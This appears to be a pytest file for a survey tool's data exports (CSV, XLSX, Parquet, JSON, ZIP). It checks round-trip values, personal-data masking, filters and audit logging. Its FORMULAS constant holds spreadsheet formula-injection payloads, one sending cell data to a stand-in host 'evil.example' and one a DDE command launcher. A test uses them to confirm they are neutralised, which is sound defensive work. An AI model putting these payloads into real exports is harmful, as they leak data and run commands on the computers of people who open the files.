@@ -1,0 +1,430 @@
+"""Exports: every format reads back in pandas and pyarrow with the database's values."""
+
+import io
+import json
+import math
+import uuid
+import zipfile
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pyarrow as pa
+import pyarrow.json as pajson
+import pyarrow.parquet as pq
+import pytest
+import yaml
+
+from sensemaker import db, findings, fragments, intake, privacy, signification
+from sensemaker.export import FORMATS, ExportError, export
+from sensemaker.export import rows as export_rows
+from sensemaker.export.columns import wide_layout
+from sensemaker.generate import generate_fragments
+
+SURVEY = "all_kinds"
+PERSONAL = "Ring mig på 070-123 45 67 eller skriv till anna@example.se."
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1, "Klicka")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def store(database, survey, bodies):
+    items = []
+    for body in bodies:
+        fragment = fragments.parse(body, survey)
+        items.append((fragment, intake.prepare(fragment, survey, fragments.body_hash(body))))
+    return db.insert_fragments(database, items)
+
+
+def body(**fields) -> dict:
+    return {
+        "id": str(uuid.uuid4()),
+        "language": "sv",
+        "prompt": "good-day",
+        "story": "Personalen tog sig tid.",
+        "consent": True,
+        "collected_at": "2026-11-20T09:30:00+01:00",
+        "answers": {"role": "patient"},
+        **fields,
+    }
+
+
+@pytest.fixture
+def stored(database, all_kinds):
+    """60 generated stories and a few written ones with N/A, "other" and formulas."""
+    batch = generate_fragments(all_kinds, 60, seed=3)
+    db.insert_fragments(database, [
+        (f, intake.prepare(f, all_kinds, fragments.body_hash(f.as_body())))
+        for f in batch.fragments
+    ])  # fmt: skip
+    written = [
+        body(
+            answers={
+                "role": "staff",
+                "safety": "na",
+                "pace": "na",
+                "people": {},
+                "life": {"health": "na", "home": 4},
+                "topics": {"selected": ["other"], "other": FORMULAS[1]},
+                "wish": FORMULAS[0],
+            }
+        ),  # fmt: skip
+        body(
+            title=FORMULAS[2],
+            story=FORMULAS[3],
+            language="en",
+            prompt="hard-day",
+            collected_at="2026-10-01T10:00:00+02:00",
+        ),  # fmt: skip
+        body(
+            story=PERSONAL, answers={"role": "relative", "topics": ["sleep", "food"]}
+        ),  # fmt: skip
+    ]
+    assert store(database, all_kinds, written) == ["created"] * 3
+    return database
+
+
+def run_export(database, fmt, **options) -> tuple[bytes, object]:
+    options.setdefault("actor", "analyst@region.se")
+    result = export(database, SURVEY, fmt, **options)
+    return b"".join(result.chunks), result
+
+
+def from_db(database) -> pd.DataFrame:
+    """The stored fragments as the test expects to see them, in seq order."""
+    facts = db.fragment_facts(database, SURVEY, ("id", "language", "prompt", "collected_at"))
+    return pd.DataFrame(facts)
+
+
+def unprefixed(text):
+    """A cell without the spreadsheet apostrophe (docs/exports.md says how)."""
+    if isinstance(text, str) and text[:1] == "'" and text[1:2] in ("=", "+", "-", "@", "\t",
+                                                                   "\r"):  # fmt: skip
+        return text[1:]
+    return text
+
+
+def answers_from_wide(survey, row: dict) -> dict:
+    """Rebuild a fragment's answers from one wide row: the mapping an importer needs."""
+
+    def value(name):
+        cell = row.get(name)
+        return None if cell is None or isinstance(cell, float) and math.isnan(cell) else cell
+
+    answers = {}
+    for q in survey.questions.values():
+        n = q.id
+        if q.kind in ("triad", "dyad", "stones"):
+            na = value(f"{n}__na")
+            if na == 1:
+                answers[n] = "na"
+            elif na == 0 and q.kind == "triad":
+                answers[n] = [value(f"{n}__{label['id']}") for label in q.raw["labels"]]
+            elif na == 0 and q.kind == "dyad":
+                answers[n] = value(f"{n}__x")
+            elif na == 0:
+                answers[n] = {
+                    s["id"]: [value(f"{n}__{s['id']}__x"), value(f"{n}__{s['id']}__y")]
+                    for s in q.raw["stones"]
+                    if value(f"{n}__{s['id']}__x") is not None
+                }
+        elif q.kind == "star":
+            ratings = {}
+            for area in q.raw["areas"]:
+                if value(f"{n}__{area['id']}__na") == 1:
+                    ratings[area["id"]] = "na"
+                elif value(f"{n}__{area['id']}") is not None:
+                    ratings[area["id"]] = int(value(f"{n}__{area['id']}"))
+            if ratings:
+                answers[n] = ratings
+        elif q.kind == "choice" and q.max == 1 and value(n) is not None:
+            answers[n] = value(n)
+        elif q.kind == "choice" and value(f"{n}__{q.option_ids[0]}") is not None:
+            answers[n] = [o for o in q.option_ids if value(f"{n}__{o}") == 1]
+        elif q.kind == "text" and value(n) is not None:
+            answers[n] = unprefixed(value(n))
+        if q.kind == "choice" and value(f"{n}__other_text") is not None:
+            answers[n] = {"selected": answers[n], "other": unprefixed(value(f"{n}__other_text"))}
+    return answers
+
+
+def assert_same_fragments(database, survey, frame: pd.DataFrame, exact=True):
+    """Every exported row gives back the stored fragment: fields, texts and numbers.
+
+    `exact=False` allows the last of 17 digits to differ (XLSX keeps 16, Excel uses 15).
+    """
+    records = frame.to_dict("records")
+    assert len(records) == db.count_fragments(database, SURVEY)
+    for record in records:
+        stored = db.get_fragment(database, record["fragment_id"])
+        for field in ("language", "prompt", "collected_at", "received_at", "source"):
+            assert record[field] == stored[field], field
+        assert unprefixed(record["story"]) == stored["story"]
+        title = record["title"] if isinstance(record["title"], str) else None
+        assert unprefixed(title) == stored["title"]
+        rebuilt = answers_from_wide(survey, record)
+        numbers = signification.encode(survey, rebuilt)
+        expected = signification.encode(survey, stored["answers"])
+        if exact:
+            assert numbers == expected, record["fragment_id"]
+        else:
+            np.testing.assert_allclose(np.frombuffer(numbers), np.frombuffer(expected),
+                                       rtol=1e-15, atol=0)  # fmt: skip
+        for question in ("wish", "topics"):
+            if isinstance(stored["answers"].get(question), str | dict):
+                assert rebuilt[question] == stored["answers"][question]
+
+
+@pytest.fixture
+def unmasked(stored):
+    db.set_setting(stored, "export_mask_personal_data", "off")
+    return stored
+
+
+def test_csv_reads_back_in_pandas_with_the_stored_values(unmasked, all_kinds):
+    data, result = run_export(unmasked, "csv")
+    assert result.mimetype.startswith("text/csv") and result.filename.endswith(".csv")
+    frame = pd.read_csv(io.BytesIO(data), keep_default_na=False, na_values=[""])
+    assert list(frame.columns) == wide_layout(all_kinds).names
+    assert_same_fragments(unmasked, all_kinds, frame)
+
+
+def test_parquet_has_a_schema_dictionaries_and_the_stored_values(unmasked, all_kinds):
+    data, _ = run_export(unmasked, "parquet")
+    table = pq.read_table(io.BytesIO(data))
+    assert table.schema.field("safety__staff").type == pa.float64()
+    assert table.schema.field("safety__na").type == pa.int8()
+    assert table.schema.field("life__home").type == pa.int32()
+    assert pa.types.is_dictionary(table.schema.field("role").type)
+    assert pa.types.is_dictionary(table.schema.field("language").type)
+    codebook = json.loads(table.schema.metadata[b"sensemaker.codebook"])
+    assert [c["name"] for c in codebook["columns"]] == table.schema.names
+    assert_same_fragments(unmasked, all_kinds, table.to_pandas())
+    assert_same_fragments(unmasked, all_kinds, pd.read_parquet(io.BytesIO(data)))
+
+
+def test_json_lines_read_in_pandas_and_pyarrow(unmasked, all_kinds):
+    data, result = run_export(unmasked, "json")
+    assert result.filename.endswith(".jsonl")
+    # pandas parses floats exactly only when asked to (precise_float).
+    frame = pd.read_json(io.BytesIO(data), lines=True, dtype=False, precise_float=True)
+    assert_same_fragments(unmasked, all_kinds, frame)
+    table = pajson.read_json(io.BytesIO(data))
+    assert table.num_rows == db.count_fragments(unmasked, SURVEY)
+
+
+def test_swedish_excel_csv_has_bom_semicolons_and_decimal_comma(unmasked, all_kinds):
+    data, result = run_export(unmasked, "csv-excel-sv")
+    assert data.startswith(b"\xef\xbb\xbf") and result.filename.endswith(".sv.csv")
+    header = data[3:].split(b"\n", 1)[0].decode()
+    assert header.count(";") == len(wide_layout(all_kinds).names) - 1
+    assert b"0," in data  # a share such as 0,25
+    frame = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig",
+                        keep_default_na=False, na_values=[""])  # fmt: skip
+    assert frame["safety__staff"].dtype == np.float64
+    assert_same_fragments(unmasked, all_kinds, frame)
+
+
+def test_xlsx_opens_in_openpyxl_with_data_and_codebook(unmasked, all_kinds):
+    data, result = run_export(unmasked, "xlsx")
+    workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
+    assert workbook.sheetnames == ["data", "codebook"]
+    rows = list(workbook["data"].iter_rows(values_only=True))
+    header, body_rows = list(rows[0]), rows[1:]
+    assert header == wide_layout(all_kinds).names
+    frame = pd.DataFrame([dict(zip(header, r, strict=True)) for r in body_rows])
+    assert_same_fragments(unmasked, all_kinds, frame, exact=False)
+    codebook = list(workbook["codebook"].iter_rows(values_only=True))
+    assert [r[0] for r in codebook[1 : len(header) + 1]] == header
+    workbook.close()
+
+
+def test_zip_bundles_data_codebook_and_survey(unmasked, all_kinds):
+    data, result = run_export(unmasked, "zip", lang="en")
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    assert sorted(archive.namelist()) == ["codebook.json", "codebook.md", "data.csv",
+                                          "survey.yaml"]  # fmt: skip
+    assert yaml.safe_load(archive.read("survey.yaml")) == all_kinds.definition
+    codebook = json.loads(archive.read("codebook.json"))
+    assert codebook["rows"] == db.count_fragments(unmasked, SURVEY) == 63
+    assert codebook["personal_data_masked"] is False
+    markdown = archive.read("codebook.md").decode()
+    assert "`safety__staff`" in markdown and "What gave a sense of safety?" in markdown
+    assert "NOT masked" in markdown and "δ = 0.005" in markdown
+    frame = pd.read_csv(archive.open("data.csv"), keep_default_na=False, na_values=[""])
+    assert_same_fragments(unmasked, all_kinds, frame)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "csv-excel-sv", "xlsx", "zip"])
+def test_formulas_are_neutralised_for_spreadsheets(stored, fmt):
+    data, _ = run_export(stored, fmt)
+    if fmt == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True)["data"]
+        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
+    else:
+        if fmt == "zip":
+            data = zipfile.ZipFile(io.BytesIO(data)).read("data.csv")
+        sep = ";" if fmt == "csv-excel-sv" else ","
+        frame = pd.read_csv(io.BytesIO(data), sep=sep, encoding="utf-8-sig", dtype=str)
+        cells = frame.to_numpy().ravel().tolist()
+    texts = [c for c in cells if isinstance(c, str)]
+    for payload in FORMULAS[:4]:
+        assert "'" + payload in texts
+        assert payload not in texts
+    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
+
+
+@pytest.mark.parametrize("fmt", ["parquet", "json"])
+def test_typed_formats_keep_the_text_as_written(unmasked, fmt):
+    data, _ = run_export(unmasked, fmt)
+    if fmt == "parquet":
+        frame = pd.read_parquet(io.BytesIO(data))
+    else:
+        frame = pd.read_json(io.BytesIO(data), lines=True, dtype=False, precise_float=True)
+    assert FORMULAS[3] in frame["story"].tolist()
+    assert FORMULAS[0] in frame["wish"].tolist()
+
+
+def test_personal_data_is_masked_by_default_and_the_codebook_says_so(stored):
+    data, result = run_export(stored, "csv")
+    text = data.decode()
+    assert "070-123 45 67" not in text and "anna@example.se" not in text
+    assert privacy.mask(PERSONAL, lang="sv") in text
+    assert result.codebook["personal_data_masked"] is True
+    db.set_setting(stored, "export_mask_personal_data", "off")
+    data, result = run_export(stored, "csv")
+    assert "070-123 45 67" in data.decode() and result.codebook["personal_data_masked"] is False
+
+
+def test_chunked_reading_gives_the_same_rows(stored, all_kinds):
+    layout = wide_layout(all_kinds)
+    small = list(export_rows.wide_batches(stored, layout, size=7))
+    whole = list(export_rows.wide_batches(stored, layout, size=10_000))
+    assert len(small) == 9 and len(whole) == 1
+    # Each chunk has its own dictionaries, so compare the values.
+    assert pa.Table.from_batches(small).to_pylist() == pa.Table.from_batches(whole).to_pylist()
+
+
+def test_the_export_is_recorded_in_the_audit_log(stored):
+    result = export(stored, SURVEY, "parquet", filters=["role=staff"], actor="analyst@region.se")
+    entry = db.audit_entries(stored, action="export")[0]
+    assert entry["actor"] == "analyst@region.se" and entry["survey_id"] == SURVEY
+    assert entry["details"] == {"format": "parquet", "layout": "wide", "run": None,
+                                "filters": ["role=staff"], "masked": True}  # fmt: skip
+    assert "Personalen" not in json.dumps(entry)
+    assert result.codebook["filters"] == ["role=staff"]
+
+
+def ids(database, **options) -> list[str]:
+    data, _ = run_export(database, "csv", **options)
+    return pd.read_csv(io.BytesIO(data))["fragment_id"].tolist()
+
+
+def test_filters_choose_fragments(stored):
+    frame = from_db(stored)
+    every = ids(stored)
+    assert every == frame["id"].tolist()
+    assert ids(stored, filters=["language=en"]) == frame[frame.language == "en"]["id"].tolist()
+    hard = frame[frame.prompt == "hard-day"]["id"].tolist()
+    assert ids(stored, filters=["prompt=hard-day"]) == hard
+    told = frame.collected_at.str[:10]
+    october = frame[(told >= "2026-10-01") & (told <= "2026-10-31")]["id"].tolist()
+    assert ids(stored, filters=["from=2026-10-01", "to=2026-10-31"]) == october
+    loaded = signification.load(stored, SURVEY)
+    role = loaded.significations(["role"])["role"]
+    staff = frame[role.selected[:, role.options.index("staff")]]["id"].tolist()
+    assert ids(stored, filters=["role=staff"]) == staff
+    topics = loaded.significations(["topics"])["topics"]
+    both = topics.selected[:, topics.options.index("sleep")] & topics.selected[:, 0]
+    assert ids(stored, filters=["topics=sleep", "topics=food"]) == frame[both]["id"].tolist()
+    assert ids(stored, filters=["role=staff", "language=en"]) == [
+        i for i in staff if i in frame[frame.language == "en"]["id"].tolist()
+    ]
+
+
+@pytest.mark.parametrize("filters, key", [
+    (["role"], "export.filter_syntax"),
+    (["mood=glad"], "export.filter_key"),
+    (["pace=0.5"], "export.filter_key"),
+    (["role=king"], "export.filter_option"),
+    (["language=fi"], "export.filter_language"),
+    (["prompt=nope"], "export.filter_prompt"),
+    (["from=2026-13-01"], "export.filter_date"),
+    (["to=yesterday"], "export.filter_date"),
+    (["cluster=1"], "export.filter_cluster_run"),
+    (["language=sv", "language=en"], "export.filter_twice"),
+])  # fmt: skip
+def test_bad_filters_are_refused_with_a_message(stored, filters, key):
+    before = len(db.audit_entries(stored, action="export"))
+    with pytest.raises(ExportError) as refused:
+        export(stored, SURVEY, "csv", filters=filters, actor="analyst@region.se")
+    assert refused.value.key == key
+    assert refused.value.message("sv") and refused.value.message("en")
+    assert len(db.audit_entries(stored, action="export")) == before  # refused: not recorded
+
+
+def test_bad_format_layout_run_and_survey_are_refused(stored):
+    for kwargs, key in (
+        ({"fmt": "sav"}, "export.format"),
+        ({"fmt": "xlsx", "layout": "long"}, "export.layout"),
+        ({"fmt": "csv", "layout": "tall"}, "export.layout"),
+        ({"fmt": "csv", "run_id": 999}, "export.run"),
+    ):
+        fmt = kwargs.pop("fmt")
+        with pytest.raises(ExportError) as refused:
+            export(stored, SURVEY, fmt, actor="cli", **kwargs)
+        assert refused.value.key == key
+    with pytest.raises(ExportError) as refused:
+        export(stored, "finns-inte", "csv", actor="cli")
+    assert refused.value.key == "export.no_survey"
+
+
+def test_cluster_columns_come_from_the_chosen_run(unmasked):
+    stored_run, _ = findings.run_clustering(unmasked, SURVEY, k=3, seed=1)
+    data, result = run_export(unmasked, "parquet", run_id=stored_run.id)
+    frame = pd.read_parquet(io.BytesIO(data))
+    labels = dict(zip(stored_run.seqs.tolist(), stored_run.run.labels.tolist(), strict=True))
+    seqs = from_db(unmasked)
+    expected = [labels[s] + 1 if labels[s] >= 0 else None
+                for s in db.fragment_facts(unmasked, SURVEY)["seq"]]  # fmt: skip
+    got = [None if pd.isna(v) else int(v) for v in frame["cluster"]]
+    assert got == expected and set(frame["cluster_run"]) == {stored_run.id}
+    assert len(seqs) == len(frame)
+    assert result.codebook["cluster_run"]["k"] == 3
+    second = ids(unmasked, run_id=stored_run.id, filters=["cluster=2"])
+    assert second == [i for i, c in zip(frame["fragment_id"], got, strict=True) if c == 2]
+
+
+def test_long_layout_is_the_wide_answers_melted(unmasked, all_kinds):
+    wide, _ = run_export(unmasked, "parquet")
+    long, result = run_export(unmasked, "parquet", layout="long")
+    assert result.filename.endswith("-long.parquet")
+    wide_frame, long_frame = pd.read_parquet(io.BytesIO(wide)), pd.read_parquet(io.BytesIO(long))
+    assert list(long_frame.columns) == ["fragment_id", "question", "part", "value", "text"]
+    answer_columns = [c for c in wide_layout(all_kinds).columns if c.question]
+    assert len(long_frame) == int(wide_frame[[c.name for c in answer_columns]].notna().sum().sum())
+    shares = long_frame[(long_frame.question == "safety") & (long_frame.part == "staff")]
+    merged = shares.merge(wide_frame, on="fragment_id")
+    assert (merged["value"] == merged["safety__staff"]).all()
+    roles = long_frame[long_frame.question == "role"]
+    assert roles["part"].isna().all() and set(roles["text"]) <= {"patient", "relative", "staff"}
+
+
+def test_an_empty_selection_still_has_the_header(stored, all_kinds):
+    data, result = run_export(stored, "csv", filters=["from=2099-01-01"])
+    assert pd.read_csv(io.BytesIO(data)).columns.tolist() == wide_layout(all_kinds).names
+    assert result.codebook["rows"] == 0
+    data, _ = run_export(stored, "parquet", filters=["from=2099-01-01"])
+    assert pq.read_table(io.BytesIO(data)).num_rows == 0
+
+
+def test_every_format_is_offered(stored):
+    for fmt in FORMATS:
+        data, result = run_export(stored, fmt)
+        assert data and result.filename.startswith(f"{SURVEY}-")
